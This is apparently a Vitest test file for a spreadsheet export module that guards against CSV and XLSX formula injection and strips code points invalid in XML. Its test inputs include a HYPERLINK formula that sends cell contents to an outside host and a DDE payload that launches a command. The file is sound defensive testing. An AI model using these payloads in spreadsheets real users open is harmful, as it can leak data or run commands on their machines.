import { describe, expect, it } from 'vitest';
import { csvCellText, looksLikeFormula, neutraliseFormula, xlsxCellText, xmlSafeText } from '../../../shared/format/spreadsheet-cell.ts';

describe('cells of the CSV and XLSX files Werkboek writes', () => {
  it('gives text that a spreadsheet would run as a formula a leading apostrophe', () => {
    for (const attack of ['=HYPERLINK("https://example.org/?d="&A1;"klik")', "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-2+3+cmd|x', '\t=1+1', '\r=1+1', '=1', '- lagere inkomsten', '+31 6 1234 5678']) {
      expect(looksLikeFormula(attack)).toBe(true);
      expect(neutraliseFormula(attack)).toBe(`'${attack}`);
      expect(csvCellText(attack)).toBe(`'${attack}`);
    }
  });

  it('leaves numbers written as text and ordinary text alone', () => {
    for (const plain of ['-12,50', '-1.234,56', '+3', '-0.5', '-1e5', '-1,234.56', '1234', 'Kantoorartikelen', 'a=b', 'x-y', '', "'al met apostrof", '–']) {
      expect(looksLikeFormula(plain)).toBe(false);
      expect(neutraliseFormula(plain)).toBe(plain);
    }
  });

  it('replaces code points that cannot stand in XML by U+FFFD and keeps the rest', () => {
    expect(xmlSafeText('a\uFFFEb\uFFFFc')).toBe('a\uFFFDb\uFFFDc');
    expect(xmlSafeText('nul\u0000 bel\u0007 esc\u001B')).toBe('nul\uFFFD bel\uFFFD esc\uFFFD');
    expect(xmlSafeText('\uFDD0\uFDEF')).toBe('\uFFFD\uFFFD');
    expect(xmlSafeText('los \uD800 en \uDC00 eind\uD83D')).toBe('los \uFFFD en \uFFFD eind\uFFFD');
    expect(xmlSafeText('\u{1FFFE}\u{10FFFF}')).toBe('\uFFFD\uFFFD');
    const kept = 'tab\tregel\r\nÜmit € 😀 \u{1F600} 中文 \uFFFD';
    expect(xmlSafeText(kept)).toBe(kept);
  });

  it('an XLSX text cell is XML-safe first, so a control character cannot hide a formula', () => {
    expect(xlsxCellText('=1+1\uFFFE')).toBe("'=1+1\uFFFD");
    expect(xlsxCellText('\u0000=1+1')).toBe('\uFFFD=1+1');
  });
});
